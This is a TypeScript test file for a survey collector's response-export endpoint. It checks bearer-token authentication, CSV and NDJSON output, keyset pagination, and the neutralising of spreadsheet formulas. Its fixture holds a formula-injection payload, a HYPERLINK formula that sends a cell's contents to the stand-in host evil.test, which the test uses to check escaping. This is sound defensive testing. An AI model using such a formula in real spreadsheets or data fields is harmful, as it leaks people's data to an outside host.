import { afterAll, beforeAll, expect, test } from 'vitest';
import type { Collector } from '../collector.js';
import { SECRET, post, response, testCollector } from '../test-fixtures.js';

let c: Collector;
const evil = '=HYPERLINK("http://evil.test/?"&A1,"Click")';
beforeAll(async () => {
  c = await testCollector();
  const responses = Array.from({ length: 25 }, (_, i) =>
    response({ score: i % 11, comment: i === 3 ? evil : `ok ${i}, "quoted"`, createdAt: new Date(Date.UTC(2026, 9, 1, 0, i)).toISOString(), attributes: { plan: i === 4 ? '@cmd' : 'pro' } }),
  );
  expect((await post(c, { site: 'demo', responses })).status).toBe(200);
});
afterAll(() => c.close());

const get = (qs: string, secret: string | null = SECRET) =>
  c.fetch(new Request(`http://collector.test/v1/responses/export?${qs}`, { headers: secret ? { authorization: `Bearer ${secret}` } : {} }));

test('needs the secret', async () => {
  expect((await get('format=csv', null)).status).toBe(401);
});

test('CSV: every response once, in time order, formulas neutralised', async () => {
  const res = await get('format=csv&from=2026-10-01&to=2026-10-01');
  expect(res.status).toBe(200);
  expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
  expect(res.headers.get('content-disposition')).toMatch(/attachment; filename="sayso-demo-2026-10-01-2026-10-01\.csv"/);
  const text = await res.text();
  const lines = text.trimEnd().split('\r\n');
  expect(lines).toHaveLength(26);
  expect(lines[0]).toMatch(/^"id","surveyId","kind","score"/);
  expect(text).toContain(`"'=HYPERLINK(""http://evil.test/?""&A1,""Click"")"`);
  expect(text).not.toMatch(/(^|,)"=/m);
  expect(text).toContain('""plan"":""@cmd""'); // inside a JSON cell that starts with {, so not a formula
  expect(lines[1]).toContain('"ok 0, ""quoted"""');
});

test('NDJSON: one JSON object per line, paged through the storage', async () => {
  const res = await get('format=ndjson&from=2026-10-01&to=2026-10-01');
  expect(res.headers.get('content-type')).toBe('application/x-ndjson; charset=utf-8');
  const rows = (await res.text()).trimEnd().split('\n').map((l) => JSON.parse(l) as { comment: string; createdAt: string });
  expect(rows).toHaveLength(25);
  expect(rows[3]!.comment).toBe(evil);
  expect(rows.map((r) => r.createdAt)).toEqual([...rows.map((r) => r.createdAt)].sort());
  // The storage pages through keyset pagination; a small page size must give the same rows.
  const paged = [];
  for await (const r of c.storage.exportResponses({ site: 'demo', from: '2026-10-01', to: '2026-10-01' }, 7)) paged.push(r.id);
  expect(paged).toEqual(rows.map((r) => (r as unknown as { id: string }).id));
});

test('a bad format is 400', async () => {
  expect((await get('format=xlsx')).status).toBe(400);
});
